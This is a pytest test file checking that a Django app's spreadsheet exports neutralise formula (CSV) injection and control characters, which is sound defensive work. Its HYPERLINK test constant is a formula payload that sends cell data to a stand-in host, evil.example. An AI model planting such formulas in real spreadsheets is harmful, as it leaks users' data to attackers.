"""Every spreadsheet export neutralises formulas from user input and never fails on a control character."""

import csv
import io
import logging

import pytest
import tablib
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import csv_response, safe_cell, xlsx_response
from organisations.models import Organisation
from organisations.resources import OrganisationResource
from tests.factories import OrganisationFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
ORGANISATION_FIELDS = ("organisation_number", "name", "slug", "municipality", "description", "status")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_kept_as_text(prefix):
    assert safe_cell(prefix + "1+2") == "'" + prefix + "1+2"


def test_control_characters_are_dropped_and_other_values_kept():
    assert safe_cell("Förening\x00 i\x1b Borås\x0b") == "Förening i Borås"
    assert safe_cell("rad ett\nrad två") == "rad ett\nrad två"
    assert safe_cell(42) == 42
    assert safe_cell(None) is None


def _registrations_export(client, fmt):
    return client.post(
        "/admin/meetings/registration/export/",
        {"format": fmt, "resource": "0", **{f"registrationresource_{f}": "on" for f in ("id", "name", "email")}},
    )


def test_registrations_csv_keeps_a_public_sign_up_formula_as_text_for_swedish_excel(coordinator_client):
    RegistrationFactory(name=HYPERLINK)
    response = _registrations_export(coordinator_client, "0")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Nummer", "Namn", "E-post"]  # Swedish headers
    assert rows[1][1] == "'" + HYPERLINK


def test_registrations_xlsx_holds_no_formula_and_survives_a_control_character(coordinator_client):
    RegistrationFactory(name=HYPERLINK)
    RegistrationFactory(name="Anna\x07 Andersson")
    response = _registrations_export(coordinator_client, "1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = sorted(str(row[1].value) for row in sheet.iter_rows(min_row=2))
    assert names == sorted(["'" + HYPERLINK, "Anna Andersson"])
    assert all(row[1].data_type == "s" for row in sheet.iter_rows(min_row=2))


def _organisations_xlsx(client):
    return client.post(
        reverse("admin:organisations_organisation_export"),
        {"format": 1, "resource": 0, **{f"organisationresource_{f}": "on" for f in ORGANISATION_FIELDS}},
    )


def test_organisations_xlsx_keeps_a_formula_name_as_text(coordinator_client):
    OrganisationFactory(name="=1+2 Föreningen")
    response = _organisations_xlsx(coordinator_client)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s"
    assert cell.value == "'=1+2 Föreningen"


def test_organisations_xlsx_with_a_control_character_exports_and_logs_no_name(coordinator_client, caplog):
    OrganisationFactory(name="Föreningen\x1f Hemlig", description="Beskrivning\x02")
    with caplog.at_level(logging.DEBUG):
        response = _organisations_xlsx(coordinator_client)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=2).value == "Föreningen Hemlig"
    assert "Hemlig" not in caplog.text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_formula_name_imports_back_unchanged(fmt):
    OrganisationFactory(name="=1+2 Föreningen", description="- första punkten")
    exported = getattr(OrganisationResource().export(), fmt)
    result = OrganisationResource().import_data(tablib.Dataset().load(exported, format=fmt), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    organisation = Organisation.objects.get()
    assert organisation.name == "=1+2 Föreningen"
    assert organisation.description == "- första punkten"


def test_admin_imports_a_csv_saved_by_swedish_excel(coordinator_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    content = "\ufefforganisation_number;name;status\n802002-4280;'=1+2 Föreningen;verified\n".encode()
    preview = coordinator_client.post(
        reverse("admin:organisations_organisation_import"),
        {"resource": 0, "format": 0, "import_file": SimpleUploadedFile("org.csv", content, content_type="text/csv")},
    )
    assert preview.status_code == 200
    confirm = preview.context["confirm_form"]
    coordinator_client.post(reverse("admin:organisations_organisation_process_import"), confirm.initial)
    assert Organisation.objects.get().name == "=1+2 Föreningen"


def test_hand_built_csv_and_xlsx_downloads_are_safe():
    rows = [["@SUM(A1:A2)", "Borås\x00"]]
    csv_download = csv_response(rows, ["Namn", "Kommun"], "lista.csv")
    assert csv_download["Content-Disposition"] == 'attachment; filename="lista.csv"'
    assert csv_download.content.decode("utf-8-sig").splitlines() == ["Namn;Kommun", "'@SUM(A1:A2);Borås"]
    xlsx_download = xlsx_response(rows, ["Namn", "Kommun"], "lista.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx_download.content)).active
    assert [c.value for c in sheet[2]] == ["'@SUM(A1:A2)", "Borås"]


def test_every_admin_export_uses_the_safe_resource_and_formats():
    from django.contrib import admin

    from core.spreadsheets import ADMIN_FORMATS, SafeResource

    exporting = [m for m in admin.site._registry.values() if getattr(m, "resource_classes", None)]
    assert exporting, "no admin exports found"
    for model_admin in exporting:
        assert all(issubclass(r, SafeResource) for r in model_admin.resource_classes), model_admin
        formats = getattr(model_admin, "export_formats", None) or model_admin.formats
        assert set(formats) <= set(ADMIN_FORMATS), model_admin


@pytest.mark.parametrize("character", ["\x00", "\x1b"])
def test_a_control_character_in_an_imported_cell_is_the_rows_error(postgres_nul_rule, character):
    """Every SafeResource (here the organisations'): a control character is that row's error before any query,
    never a database error (PostgreSQL refuses NUL in text) that aborts the import."""
    dataset = tablib.Dataset(headers=["organisation_number", "name", "status"])
    dataset.append(["802002-4280", f"Föreningen{character} Gemenskap", "verified"])
    result = OrganisationResource().import_data(dataset, dry_run=False)
    assert not result.has_errors()
    assert [row.number for row in result.invalid_rows] == [1]
    assert "styrtecken" in " ".join(result.invalid_rows[0].error.messages)
    assert not Organisation.objects.exists()
